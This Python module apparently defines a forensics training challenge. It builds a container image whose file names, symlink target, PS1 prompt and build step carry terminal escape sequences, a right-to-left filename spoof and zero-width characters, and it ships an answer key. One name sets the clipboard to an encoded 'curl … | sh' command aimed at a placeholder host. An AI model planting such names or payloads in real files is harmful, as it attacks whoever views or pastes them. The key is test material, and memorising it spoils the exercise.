"""File names and build steps that attack the terminal of whoever looks at them."""

from __future__ import annotations

from collections.abc import Mapping

from forensics.printable import printable
from forensics.samples import Answer, Recipe

from ._alpine import alpine_image
from ._image import Layer, run

_NAMES = {
    "/srv/app/\x1b[2J\x1b[1;1Hreadme": "clears the screen and writes from the top",
    "/srv/app/\x1b]52;c;Y3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2gK\x07notes": "sets the clipboard (OSC 52)",
    "/srv/app/\x1b]0;root@host\x07title": "changes the title of the window",
    "/srv/app/\x9b31mlog": "a control sequence in one C1 character",
    "/srv/app/invoice_\u202efdp.sh": "ends in .sh and is shown ending in pdf (right-to-left override)",
    "/srv/app/adm\u200bin": "holds a character of no width",
}
_STRANGE = (
    "/srv/app/[/foo]",
    "/srv/app/[bold red]x",
    "/srv/app/two\nlines",
    "/srv/app/bad-\udcff\udcfe-bytes",
    "/srv/app/ ",
)


def _make() -> Mapping[str, bytes]:
    image, _ = alpine_image(
        "terminal-names", {"Cmd": ["/bin/sh"], "Env": ["PATH=/bin", "PS1=\x1b]0;owned\x07$ "]}
    )
    layer = Layer()
    for name in (*_NAMES, *_STRANGE):
        layer.file(name, "nothing to see\n")
    image.step("COPY app/ /srv/app/ # buildkit\x1b[8m hidden from here on", layer)
    link = Layer().link("/srv/app/current", "\x1b[31mred\x1b[0m")
    image.step(run("ln -s release current"), link)
    return {".tar": image.docker_archive()}


RECIPE = Recipe(
    id="terminal-names",
    title="Do not look at it directly",
    level="medium",
    briefing="""
A colleague listed the files of this image in a terminal. The screen went blank, and the next thing
pasted into the shell was not what had been copied.

- Which names did that, and how?
- Which name shows something else than what it is?
- Which names are merely odd, and break careless programs?
""",
    make=_make,
    answers=(
        *(
            Answer(
                categories=("defense-evasion", "archive-anomaly"),
                severity="medium",
                layer=1,
                path=printable(name),
                state="visible",
                why=f"The name {effect}.",
            )
            for name, effect in _NAMES.items()
        ),
        Answer(
            categories=("defense-evasion", "archive-anomaly"),
            severity="medium",
            layer=2,
            path="/srv/app/current",
            state="visible",
            why="The link's target colours the terminal red: targets are shown too.",
        ),
        Answer(
            categories=("defense-evasion", "archive-anomaly", "configuration"),
            severity="low",
            why="The environment (PS1) and the build history hold control sequences as well.",
        ),
    ),
)
